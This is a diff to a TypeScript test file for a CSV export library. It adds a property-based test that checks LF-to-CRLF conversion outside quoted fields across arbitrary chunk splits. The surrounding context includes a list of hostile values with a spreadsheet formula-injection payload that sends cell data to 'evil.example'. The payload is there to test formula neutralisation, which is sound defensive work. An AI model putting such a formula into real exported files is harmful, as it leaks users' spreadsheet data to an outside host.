@@ -1,7 +1,7 @@
 import { parse } from "csv-parse/sync";
 import fc from "fast-check";
 
-import { createCsvStream, csvField, csvRecord, neutraliseFormula, UTF8_BOM } from "@/lib/csv";
+import { createCsvStream, csvField, csvRecord, lfToCrlfOutsideQuotes, neutraliseFormula, UTF8_BOM } from "@/lib/csv";
 
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
@@ -128,5 +128,30 @@ describe("createCsvStream", () => {
     await reader.read();
     await reader.cancel();
     expect(closed).toBe(true);
+  });
+});
+
+describe("lfToCrlfOutsideQuotes", () => {
+  const run = async (chunks: string[]) => {
+    const transform = lfToCrlfOutsideQuotes();
+    const out: Buffer[] = [];
+    transform.on("data", (chunk: Buffer) => out.push(chunk));
+    const done = new Promise((resolve) => transform.on("end", resolve));
+    for (const chunk of chunks) transform.write(Buffer.from(chunk));
+    transform.end();
+    await done;
+    return Buffer.concat(out).toString("utf8");
+  };
+
+  it("turns COPY's LF record ends into CRLF, keeps line breaks inside fields, wherever the chunks split", async () => {
+    await fc.assert(
+      fc.asyncProperty(fc.array(fc.array(fc.string(), { minLength: 1, maxLength: 4 }), { maxLength: 6 }), fc.array(fc.nat(40)), async (records, cuts) => {
+        const lf = records.map((record) => csvRecord(record).slice(0, -2) + "\n").join("");
+        const expected = records.map((record) => csvRecord(record)).join("");
+        const positions = [...new Set(cuts.map((cut) => cut % (lf.length + 1)))].sort((a, b) => a - b);
+        const chunks = [0, ...positions, lf.length].slice(1).map((end, i, ends) => lf.slice(i === 0 ? 0 : ends[i - 1], end));
+        expect(await run(chunks)).toBe(expected);
+      }),
+    );
   });
 });
